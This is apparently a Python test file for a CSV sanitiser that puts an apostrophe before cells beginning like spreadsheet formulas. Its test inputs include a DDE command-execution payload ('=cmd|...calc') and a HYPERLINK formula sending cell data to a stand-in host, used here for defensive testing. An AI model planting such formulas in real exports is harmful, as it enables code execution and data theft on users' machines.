"""What is opened in a spreadsheet runs nothing."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sealing.csv_cells import harmless, table

STARTS = "=+-@\t\r\n＝＋－＠"
BLANK = " \u00a0\u3000\ufeff"


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =cmd|' /C calc'!A0",
        "\u3000=1",
        "＝1",
        '=HYPERLINK("http://elsewhere.example/?"&A1)',
    ],
)
def test_what_begins_as_a_formula_stands_behind_an_apostrophe(text: str) -> None:
    assert read(table([[text]])) == [["'" + text]]


@pytest.mark.parametrize("text", ["", "U001", "2026-11-23 10:00:00", "MINORS-62", "甲,乙", 'a"b'])
def test_what_is_harmless_is_unchanged(text: str) -> None:
    assert harmless(text) == text


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), max_size=5))
def test_no_cell_of_any_table_begins_as_a_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in map(harmless, row):
            assert not cell.lstrip(BLANK).startswith(tuple(STARTS))


@given(st.lists(st.lists(st.text("=+-@,\"'a甲"), min_size=2, max_size=4), max_size=5))
def test_a_table_is_read_as_it_was_written(rows: list[list[str]]) -> None:
    assert read(table(rows)) == [[harmless(cell) for cell in row] for row in rows]
